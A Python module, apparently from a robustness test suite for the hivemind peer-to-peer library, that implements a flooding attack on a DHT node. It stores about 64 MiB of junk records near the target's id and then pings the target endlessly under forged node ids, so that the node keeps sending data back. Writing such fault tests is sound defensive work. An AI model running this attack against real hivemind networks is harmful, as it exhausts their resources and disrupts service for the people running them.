"""Fills the operator's part of the DHT with records near its own id, then calls it again and again under a new node id each time.

hivemind sends each node that it meets the records that lie near it.
"""

import asyncio
import random

from hivemind.dht.routing import DHTID
from hivemind.p2p import P2PDaemonError, P2PHandlerError
from hivemind.proto import dht_pb2

from tests.faults.strangers import Target
from tests.faults.strangers.dht import bring, junk, new_keys, operator_of, strangers

_KEYS, _NAMES = 512, 32  # of 4 kB each: 64 MiB
_PAUSE_S = 0.02  # between two pings


async def attack(target: Target) -> None:
    """Attack until cancelled."""
    operator = operator_of(target)
    async with strangers(target) as ((own, node),):
        stub = node.dht.protocol.get_stub(operator)
        there = DHTID.from_bytes((await stub.rpc_ping(dht_pb2.PingRequest(), timeout=30)).peer.node_id)
        near = [DHTID(there ^ number) for number in range(1, _NAMES + 1)]
        await bring(node, operator, junk(near, [own], 2000), 1)
        await bring(node, operator, junk(near, new_keys(_KEYS)))
        print("attacks", flush=True)
        pinging: set[asyncio.Task[None]] = set()
        while True:
            new_id = DHTID(there ^ random.getrandbits(100)).to_bytes()
            for claimed in (new_id, node.dht.node_id.to_bytes()):
                pinging.add(asyncio.create_task(_ping(stub, claimed)))
            pinging = {task for task in pinging if not task.done()}
            await asyncio.sleep(_PAUSE_S * (1 + len(pinging)))


async def _ping(stub: object, claimed: bytes) -> None:
    request = dht_pb2.PingRequest(peer=dht_pb2.NodeInfo(node_id=claimed), validate=bool(random.getrandbits(1)))
    try:
        await stub.rpc_ping(request, timeout=10)  # type: ignore[attr-defined]
    except (P2PHandlerError, P2PDaemonError, TimeoutError):
        pass  # it says no, or nothing
